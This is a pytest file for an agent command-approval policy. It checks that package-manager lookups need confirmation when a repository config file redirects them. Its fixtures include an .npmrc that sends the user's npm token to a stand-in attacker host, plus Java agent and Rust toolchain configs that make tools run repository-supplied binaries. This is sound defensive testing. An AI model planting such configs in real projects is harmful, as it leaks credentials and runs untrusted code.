"""Package clients read configuration files from the folder they run in and every folder above it. A
repository's ``.npmrc`` (``registry=https://evil.example/`` and ``//evil.example/:_authToken=${NPM_TOKEN}``)
sends ``npm view`` and the user's token to a host the command never names, so such a lookup is not
judged by its words alone: it asks, and says which file. The user's own files in the home folder are theirs."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from ramparts.explain import explain_input
from ramparts.policy.load import load_policy

BASELINE = load_policy("profile:baseline")
CONTENT = {
    ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n",
    "jvm.config": "-javaagent:tools/agent.jar\n",
    "rust-toolchain.toml": '[toolchain]\npath = "tools/rust"\n',
    "rust-toolchain": "[toolchain]\npath = 'tools/rust'\n",
}


def _decide(command: str, cwd: Path, home: Path) -> tuple[str, str]:
    assert str(Path.home()) == str(home)
    decision = explain_input(BASELINE, "Bash", {"command": command}, str(cwd))
    return decision.verdict, " ".join(decision.reasons)


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    project = home / "src" / "repo"
    (project / "sub").mkdir(parents=True)
    return home, project


@pytest.mark.parametrize(
    ("program", "config", "command"),
    [
        ("npm", ".npmrc", "npm view left-pad version"),
        ("npm", ".npmrc", "cd sub && npm view left-pad"),
        ("npm", ".npmrc", "env -C sub npm ls"),
        ("pnpm", ".npmrc", "pnpm ls"),
        ("cargo", ".cargo/config.toml", "cargo search serde"),
        ("uv", "uv.toml", "uv pip list"),
        ("yarn", ".yarnrc.yml", "yarn --version"),
        ("mvn", ".mvn/jvm.config", "mvn --version"),
        ("rustc", "rust-toolchain.toml", "rustc --version"),
        ("cargo", "rust-toolchain", "cargo --version"),
    ],
)
def test_a_project_config_makes_a_package_lookup_ask(
    tree: tuple[Path, Path], program: str, config: str, command: str
) -> None:
    home, project = tree
    assert _decide(command, project, home)[0] == "allow", "without the file it is a read-only lookup"
    path = project / config
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        CONTENT.get(path.name, "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n")
    )
    verdict, reasons = _decide(command, project, home)
    assert verdict == "ask" and f"{program} reads {path}" in reasons


def test_a_config_in_a_folder_above_the_project_counts_too(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (project.parent / ".npmrc").write_text("registry=https://evil.example/\n")
    assert _decide("npm view left-pad", project / "sub", home)[0] == "ask"


def test_the_users_own_configuration_in_home_is_theirs(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (home / ".npmrc").write_text("//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")
    (home / ".cargo").mkdir()
    (home / ".cargo" / "config.toml").write_text("[net]\nretry = 2\n")
    assert _decide("npm view left-pad", project, home)[0] == "allow"
    assert _decide("cargo search serde", project, home)[0] == "allow"


def test_other_programs_do_not_look(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (project / ".npmrc").write_text("registry=https://evil.example/\n")
    assert _decide("ls -la", project, home)[0] == "allow"


def test_a_toolchain_file_that_only_names_a_channel_is_harmless(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (project / "rust-toolchain.toml").write_text('[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n')
    assert _decide("cargo --version", project, home)[0] == "allow"
    (project / "rust-toolchain.toml").unlink()
    (project / "rust-toolchain").write_text("nightly-2024-01-01\n")
    assert _decide("rustc --version", project, home)[0] == "allow"
    (project / "rust-toolchain").write_text("../../elsewhere\n")
    assert _decide("rustc --version", project, home)[0] == "ask"


@pytest.mark.skipif(not shutil.which("bwrap") or not shutil.which("rustup"), reason="needs bwrap and rustup")
def test_rustup_runs_the_toolchain_a_repository_names_in_real_life(tmp_path: Path) -> None:
    """Why it asks: real rustup, in a sandbox, runs the binary a rust-toolchain.toml ``path`` names."""
    rustup = Path(shutil.which("rustup") or "")
    tools = tmp_path / "tc" / "bin"
    tools.mkdir(parents=True)
    marker = tmp_path / "ran"
    (tools / "rustc").write_text(f"#!/bin/sh\necho ran > {marker}\necho rustc 0.0.0\n")
    (tools / "rustc").chmod(0o755)
    (tmp_path / "rust-toolchain.toml").write_text(f'[toolchain]\npath = "{tmp_path / "tc"}"\n')
    argv = ["bwrap", "--ro-bind", "/", "/", "--bind", str(tmp_path), str(tmp_path), "--dev", "/dev"]
    argv += ["--proc", "/proc", "--unshare-net", "--die-with-parent", "--chdir", str(tmp_path)]
    argv += ["--setenv", "PATH", f"{rustup.parent}:/usr/bin:/bin", "rustc", "--version"]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
    assert "rustc 0.0.0" in done.stdout and marker.exists(), done.stderr
